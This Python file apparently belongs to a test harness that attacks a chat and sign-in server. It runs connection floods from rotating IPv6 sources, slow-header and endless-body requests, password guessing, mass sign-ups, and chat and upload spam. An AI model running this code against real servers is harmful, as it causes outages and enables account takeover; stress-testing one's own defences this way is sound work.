# SPDX-License-Identifier: MIT
"""Attacks upon everybody: each is a function, and a member of ATTACKS.

All addresses that there are take part, each with as many connections as one
address may have.
"""

from __future__ import annotations

import collections
import dataclasses
import random
import re
import selectors
import socket
import time
import typing

from house import (ATTACKER_48, FRESH, GOOD, PASSWORD, SERVER_V4, SERVER_V6,
                   address, attacker_ips, more_files)

PER_V4 = 200      # limit.connections-per-address
PER_48 = 800
A_SECOND = 2600   # connections, and requests, at most
STANDS = 2.0      # seconds until whatever can be held is held
SESSIONS = 8      # of people of the attacker's
IP_FREEBIND = 15
ENOUGH = 10**9


def v6_source() -> str:
    """Another /64 each time, of any /56."""
    return f"{ATTACKER_48}:{random.randrange(65536):x}::{random.randrange(1, 9999):x}"


@dataclasses.dataclass
class Flood:
    """Connections to some ports that are held, or go on asking."""

    ports: list[int]
    say: typing.Callable[[], bytes] = lambda: b""
    again: bool = False                # the same once more after each answer
    drip: bytes = b""                  # from time to time
    drip_s: float = 2.0
    close_at_once: bool = False
    rate: int = A_SECOND
    share: float = 1.0                 # of the connections it may have
    places: list[str] | None = None    # those it has, if not all
    opened: int = 0
    answers: int = 0
    said: int = 0

    def start(self) -> None:
        self.poll = selectors.DefaultSelector()
        self.lines: dict[socket.socket, list] = {}
        self.free = list(self.places or ())
        for ip in attacker_ips() if self.places is None else ():
            self.free += [ip] * int(PER_V4 * self.share)
        if self.places is None:
            self.free += [""] * int(PER_48 * self.share)
        random.shuffle(self.free)
        self.allowed = self.asks = 0.0
        self.waiting: collections.deque[socket.socket] = collections.deque()
        self.last = time.monotonic()

    def open(self) -> None:
        place = self.free.pop()
        ip = place or v6_source()
        sock = socket.socket(socket.AF_INET if place else socket.AF_INET6)
        sock.setblocking(False)
        try:
            if not place:
                sock.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
            sock.bind((ip, 0))
            sock.connect_ex((SERVER_V4 if place else SERVER_V6,
                             random.choice(self.ports)))
        except OSError:
            sock.close()
            self.free.insert(0, place)
            return
        self.opened += 1
        # where from, what is to be said, when it dripped, asks once more
        self.lines[sock] = [place, b"", time.monotonic(), 0]
        self.poll.register(sock, selectors.EVENT_WRITE)

    def close(self, sock: socket.socket) -> None:
        place = self.lines.pop(sock)[0]
        self.poll.unregister(sock)
        sock.close()
        self.free.insert(0, place)

    def send(self, sock: socket.socket, data: bytes) -> None:
        line = self.lines[sock]
        line[1] += data
        if line[1]:
            n = sock.send(line[1])
            self.said += n
            line[1] = line[1][n:]
        self.poll.modify(sock, selectors.EVENT_READ | (
            selectors.EVENT_WRITE if line[1] else 0))

    def serve(self, sock: socket.socket, events: int) -> None:
        if events & selectors.EVENT_WRITE:
            fresh = not self.lines[sock][1] and \
                self.poll.get_key(sock).events == selectors.EVENT_WRITE
            self.send(sock, self.say() if fresh else b"")
            if fresh and self.close_at_once:
                self.close(sock)
                return
        if events & selectors.EVENT_READ:
            if not sock.recv(65536):
                raise OSError("closed")
            self.answers += 1
            if self.again and self.lines[sock][3] == 0:
                self.lines[sock][3] = 1
                self.waiting.append(sock)

    def ask_again(self, sock: socket.socket) -> None:
        if sock not in self.lines:
            return
        self.lines[sock][3] = 0
        try:
            self.send(sock, self.say())
        except OSError:
            self.close(sock)

    def turn(self) -> None:
        now = time.monotonic()
        self.allowed = min(self.rate * 0.1,
                           self.allowed + (now - self.last) * self.rate)
        self.asks = min(A_SECOND * 0.1,
                        self.asks + (now - self.last) * A_SECOND)
        self.last = now
        while self.free and self.allowed >= 1:
            self.allowed -= 1
            self.open()
        while self.waiting and self.asks >= 1:
            self.asks -= 1
            self.ask_again(self.waiting.popleft())
        for key, events in self.poll.select(0.02):
            try:
                self.serve(key.fileobj, events)
            except OSError:
                if key.fileobj in self.lines:
                    self.close(key.fileobj)
        if self.drip:
            self.drop(now)

    def drop(self, now: float) -> None:
        for sock in [s for s, line in self.lines.items()
                     if now - line[2] > self.drip_s]:
            self.lines[sock][2] = now
            try:
                sock.send(self.drip)
            except OSError:
                pass

    def run(self, seconds: float) -> dict[str, int]:
        self.start()
        end = time.monotonic() + STANDS
        while time.monotonic() < end:
            self.turn()
        print("ready", flush=True)
        end += seconds
        while time.monotonic() < end:
            self.turn()
        return {"opened": self.opened, "held": len(self.lines),
                "answers": self.answers, "bytes": self.said}


# ---- what is said ----

def http(head: str, body: bytes = b"", length: int | None = None) -> bytes:
    n = len(body) if length is None else length
    return (f"{head} HTTP/1.1\r\nHost: login.live.com\r\n"
            f"Content-Length: {n}\r\n\r\n").encode() + body


RST = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
    'xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/'
    'oasis-200401-wss-wssecurity-secext-1.0.xsd" '
    'xmlns:wst="http://schemas.xmlsoap.org/ws/2005/02/trust" '
    'xmlns:wsa="http://www.w3.org/2005/08/addressing" '
    'xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy">'
    "<s:Header><wsse:Security><wsse:UsernameToken>"
    "<wsse:Username>{who}</wsse:Username>"
    "<wsse:Password>{password}</wsse:Password></wsse:UsernameToken>"
    "</wsse:Security></s:Header><s:Body><wst:RequestSecurityToken>"
    "<wsp:AppliesTo><wsa:EndpointReference>"
    "<wsa:Address>http://Passport.NET/tb</wsa:Address>"
    "</wsa:EndpointReference></wsp:AppliesTo></wst:RequestSecurityToken>"
    "</s:Body></s:Envelope>")


def ask_ticket(who: str, password: str) -> bytes:
    return http("POST /RST2.srf",
                RST.format(who=who, password=password).encode())


def anybody() -> str:
    return f"x{random.randrange(ENOUGH)}@nowhere.example"


# ---- people of the attacker's ----

class Session:
    """Somebody who signed in by MSNP9."""

    def __init__(self, number: int) -> None:
        self.email = address(number)
        self.ip = attacker_ips()[number % 16]
        self.sock = self.dial(1863)
        self.inbox = b""
        self.trid = 0
        self.ask("VER", "MSNP9", "CVR0")
        self.ask("CVR", "0x0409", "winnt", "5.1", "i386", "MSNMSGR",
                 "6.2.0205", "MSMSGS", self.email)
        got = self.ask("USR", "TWN", "I", self.email)
        self.ticket = self.get_ticket(got[4])
        self.ask("USR", "TWN", "S", self.ticket)
        self.ask("SYN", "0")
        self.ask("CHG", "NLN")

    def dial(self, port: int) -> socket.socket:
        return socket.create_connection((SERVER_V4, port), timeout=30,
                                        source_address=(self.ip, 0))

    def get_ticket(self, challenge: str) -> str:
        with self.dial(80) as sock:
            sock.sendall((
                "GET /login2.srf HTTP/1.1\r\nHost: x\r\nConnection: close"
                "\r\nAuthorization: Passport1.4 OrgVerb=GET,OrgURL=x,"
                f"sign-in={self.email.replace('@', '%40')},pwd={PASSWORD},"
                f"{challenge}\r\n\r\n").encode())
            got = b"".join(iter(lambda: sock.recv(65536), b""))
        found = re.search(rb"from-PP='([^']+)'", got)
        assert found, got
        return found.group(1).decode()

    def say(self, verb: str, *words: str) -> None:
        self.trid += 1
        self.sock.sendall(
            (" ".join((verb, str(self.trid)) + words) + "\r\n").encode())

    def ask(self, verb: str, *words: str) -> list[str]:
        self.say(verb, *words)
        while True:
            while b"\n" not in self.inbox:
                more = self.sock.recv(65536)
                if not more:
                    raise OSError("closed")
                self.inbox += more
            line, _, self.inbox = self.inbox.partition(b"\n")
            got = line.decode(errors="replace").split()
            if len(got) > 1 and got[1] == str(self.trid):
                return got

    def skip(self) -> None:
        """Whatever came."""
        self.sock.setblocking(False)
        try:
            while self.sock.recv(65536):
                pass
        except BlockingIOError:
            pass
        finally:
            self.sock.settimeout(30)


def sessions() -> list[Session]:
    return [Session(GOOD + FRESH + 1 + n) for n in range(SESSIONS)]


def for_a_while(seconds: float, deed: typing.Callable[[], None],
                pause: float) -> dict[str, int]:
    print("ready", flush=True)
    end = time.monotonic() + seconds
    done = lost = 0
    while time.monotonic() < end:
        try:
            deed()
            done += 1
        except OSError:
            lost += 1
        time.sleep(pause)
    return {"deeds": done, "lost": lost}


def good() -> str:
    return address(random.randrange(1, GOOD + 1))


# ---- the attacks ----

def silent_1863(s: float) -> dict[str, int]:
    """8: connections to 1863 that say nothing"""
    return Flood([1863]).run(s)


def gateway_opens(s: float) -> dict[str, int]:
    """8: sessions of the gateway that nobody signs in to"""
    return Flood([80], lambda: http(
        "POST /gateway/gateway.dll?Action=open&Server=NS&IP=x"),
        again=True, rate=1000).run(s)


def silent_doors(s: float) -> dict[str, int]:
    """8: silent connections to the doors of TLS, HTTP and chat"""
    return Flood([443, 80, 6667]).run(s)


def bodies(s: float) -> dict[str, int]:
    """9: bodies that never end, of what a stranger may send and of more"""
    return Flood([80], lambda: http(
        "POST /abservice/abservice.asmx",
        b"x" * random.choice((60000, 60000, 60000, 1000000)), 1048576),
        drip=b"x", drip_s=5, rate=1000).run(s)


def slow_headers(s: float) -> dict[str, int]:
    """9: headers a byte at a time"""
    return Flood([80], lambda: b"GET / HTTP/1.1\r\nX: ", drip=b"y").run(s)


def wrong_passwords(s: float) -> dict[str, int]:
    """10: wrong passwords of people nobody knows"""
    return Flood([80], lambda: ask_ticket(anybody(), "wrong"), again=True,
                 share=0.25).run(s)


def guessing(s: float) -> dict[str, int]:
    """11: wrong passwords of the good people"""
    return Flood([80], lambda: ask_ticket(good(), "wrong"), again=True,
                 share=0.25, rate=200).run(s)


def calls(s: float) -> dict[str, int]:
    """12: strangers who call everybody"""
    here = sessions()
    boards = []
    for one in here:
        got = one.ask("XFR", "SB")
        board = Session.__new__(Session)
        board.ip, board.inbox, board.trid = one.ip, b"", 0
        board.sock = board.dial(1863)
        board.ask("USR", one.email, got[5])
        boards.append(board)

    def deed() -> None:
        for n, board in enumerate(boards):
            try:
                for _ in range(5):
                    board.say("CAL", good())
                board.skip()
            except OSError:
                got = here[n].ask("XFR", "SB")
                board.sock = board.dial(1863)
                board.ask("USR", here[n].email, got[5])

    return for_a_while(s, deed, 0.02)


def sign_ups(s: float) -> dict[str, int]:
    """13: accounts made from everywhere"""
    return Flood([80], lambda: ask_ticket(anybody(), "new"), again=True,
                 share=0.25, rate=500).run(s)


def strangers_lists(s: float) -> dict[str, int]:
    """14, 15: on and off the lists of everybody"""
    here = sessions()

    def deed() -> None:
        for one in here:
            who = good()
            one.say("ADD", "FL", who, who)
            one.say("REM", "FL", who)
            one.skip()

    return for_a_while(s, deed, 0.01)


def rooms(s: float) -> dict[str, int]:
    """15: guests who take all the chat rooms"""
    def guest() -> bytes:
        name = f"g{random.randrange(ENOUGH)}"
        joins = "".join(f"JOIN #r{random.randrange(ENOUGH)}\r\n"
                        for _ in range(10))
        return f"NICK {name}\r\nUSER {name} 0 * :x\r\n{joins}".encode()
    return Flood([6667], guest, rate=200, share=0.5).run(s)


def uploads(s: float) -> dict[str, int]:
    """15: uploads of a megabyte, one after another, with a good ticket"""
    tickets = [one.ticket for one in sessions()]

    def upload() -> bytes:
        ticket = random.choice(tickets).replace("&", "&amp;")
        head = (f"<Envelope><Header><TicketToken>{ticket}"
                "</TicketToken></Header>").encode()
        return http("POST /storageservice/SchematizedStore.asmx",
                    head.ljust(1024 * 1000))
    return Flood([80], upload, again=True, share=0.01, rate=50).run(s)


def connects(s: float) -> dict[str, int]:
    """15: thousands of connections a second that come and go"""
    return Flood([1863, 80, 443, 6667], close_at_once=True).run(s)


ATTACKS = (silent_1863, gateway_opens, silent_doors, bodies, slow_headers,
           wrong_passwords, guessing, calls, sign_ups, strangers_lists, rooms,
           uploads, connects)
